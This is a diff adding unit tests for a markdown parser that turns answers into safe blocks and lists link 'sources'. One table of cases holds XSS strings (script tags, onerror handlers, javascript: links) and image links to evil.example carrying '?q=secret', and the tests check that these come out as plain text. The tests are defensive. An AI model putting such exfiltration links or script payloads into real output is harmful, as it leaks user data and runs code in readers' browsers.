@@ -1,0 +1,127 @@
+import { describe, expect, test } from "vitest";
+import { parseMarkdown, plainText } from "./parse-markdown.ts";
+
+const origin = "https://site.example";
+const parse = (text: string) => parseMarkdown(text, origin);
+const line = (text: string) => {
+  const [block] = parse(text).blocks;
+  return block?.type === "paragraph" ? block.children : block;
+};
+const page = (path: string, ...children: string[]) => ({ type: "link", target: { kind: "page", path }, children });
+
+describe("blocks", () => {
+  test("paragraphs, lists and numbered lists, also without blank lines between", () => {
+    expect(parse("One\ntwo.\n\nThree:\n- a\n- b\n  more\n\n- c\n1. x\n2. y\n\nEnd.").blocks).toEqual([
+      { type: "paragraph", children: ["One\ntwo."] },
+      { type: "paragraph", children: ["Three:"] },
+      { type: "list", start: undefined, items: [["a"], ["b more"], ["c"]] },
+      { type: "list", start: 1, items: [["x"], ["y"]] },
+      { type: "paragraph", children: ["End."] },
+    ]);
+  });
+
+  test("a heading is bold, a quotation text, a rule nothing, code keeps its lines", () => {
+    expect(parse("## Title ##\ntext\n> said\n\n---\n\n```js\nconst a = **1**;\n\n<b>\n```\nend\r\n").blocks).toEqual([
+      { type: "paragraph", children: [{ type: "strong", children: ["Title"] }] },
+      { type: "paragraph", children: ["text\nsaid"] },
+      { type: "code", text: "const a = **1**;\n\n<b>" },
+      { type: "paragraph", children: ["end"] },
+    ]);
+  });
+
+  test("nothing is nothing", () => {
+    expect(parse("\n \n")).toEqual({ blocks: [], sources: [] });
+  });
+});
+
+describe("inside a line", () => {
+  test.each([
+    ["a **b** c", ["a ", { type: "strong", children: ["b"] }, " c"]],
+    [
+      "__b__ and *i* and _i_",
+      [
+        { type: "strong", children: ["b"] },
+        " and ",
+        { type: "emphasis", children: ["i"] },
+        " and ",
+        { type: "emphasis", children: ["i"] },
+      ],
+    ],
+    ["**a *b* c**", [{ type: "strong", children: ["a ", { type: "emphasis", children: ["b"] }, " c"] }]],
+    ["`**a**`", [{ type: "code", text: "**a**" }]],
+    ["snake_case_name 2 * 3 * 4 ** 5", ["snake_case_name 2 * 3 * 4 ** 5"]],
+    ["\\*not\\* \\[a\\](/about)", ["*not* [a](/about)"]],
+    ["**خدمات** الجوال", [{ type: "strong", children: ["خدمات"] }, " الجوال"]],
+    ["[Mobile](/services/mobile).", [page("/services/mobile", "Mobile"), "."]],
+    [
+      "[**Mobile**](https://site.example/ar/services/mobile)",
+      [
+        {
+          type: "link",
+          target: { kind: "page", path: "/ar/services/mobile" },
+          children: [{ type: "strong", children: ["Mobile"] }],
+        },
+      ],
+    ],
+    [
+      "<mailto:a@b.example>",
+      [{ type: "link", target: { kind: "mail", href: "mailto:a@b.example" }, children: ["a@b.example"] }],
+    ],
+  ])("%s", (text, expected) => {
+    expect(line(text)).toEqual(expected);
+  });
+
+  test.each([
+    ["<script>alert(1)</script>", ["<script>alert(1)</script>"]],
+    ["<img src=x onerror=alert(1)>", ["<img src=x onerror=alert(1)>"]],
+    ["![seen](https://evil.example/?q=secret)", ["seen"]],
+    ["![](https://evil.example/?q=secret) x", [" x"]],
+    ["[![a](https://evil.example/a.png)](https://evil.example)", ["[a](https://evil.example)"]],
+    ["[here](https://evil.example)", ["here"]],
+    ["[here](javascript:alert(1))", ["[here](javascript:alert(1))"]],
+    ["[here](javascript:alert`1`)", ["here"]],
+    ["[here](//evil.example)", ["here"]],
+    ["[here](/about\n.evil)", ["[here](/about\n.evil)"]],
+    ["<https://evil.example/x>", ["https://evil.example/x"]],
+    ["https://site.example/about", ["https://site.example/about"]],
+    ["[a][b]\n[b]: https://evil.example", ["[a][b]\n[b]: https://evil.example"]],
+  ])("%s is text and nothing else", (text, expected) => {
+    expect(line(text)).toEqual(expected);
+  });
+
+  test.each(["[", "*", "**a", "`", "_a", "![", "[a](", "<a:", "\\", "- ", "> ", "# "])(
+    "a long run of %j is read in no time",
+    (unit) => {
+      const begun = performance.now();
+      parse(unit.repeat(8000 / unit.length));
+      expect(performance.now() - begun).toBeLessThan(2000);
+    },
+  );
+});
+
+describe("sources", () => {
+  test("a last paragraph of links to pages is taken out of the text", () => {
+    const { blocks, sources } = parse("We build apps.\n\n[Mobile](/services/mobile) · [Our **work**](/about#work)");
+    expect(blocks).toEqual([{ type: "paragraph", children: ["We build apps."] }]);
+    expect(sources).toEqual([
+      { title: "Mobile", path: "/services/mobile" },
+      { title: "Our work", path: "/about#work" },
+    ]);
+  });
+
+  test.each([
+    "Text with [a link](/about).",
+    "[a link](/about)",
+    "[a link](/about)\n\nText.",
+    "Text.\n\n[write](mailto:a@b.example)",
+    "Text.\n\n[evil](https://evil.example)",
+    "Text.\n\n- [a](/about)\n- [b](/contact)",
+  ])("%j names none", (text) => {
+    expect(parse(text).sources).toEqual([]);
+  });
+});
+
+test("as plain text, an answer reads as its lines", () => {
+  const text = "**One** `two`\n\n1. [a](/about)\n2. *b*\n\n- c\n\n[Source](/about)";
+  expect(plainText(parse(text))).toBe("One two\n1. a\n2. b\nc");
+});
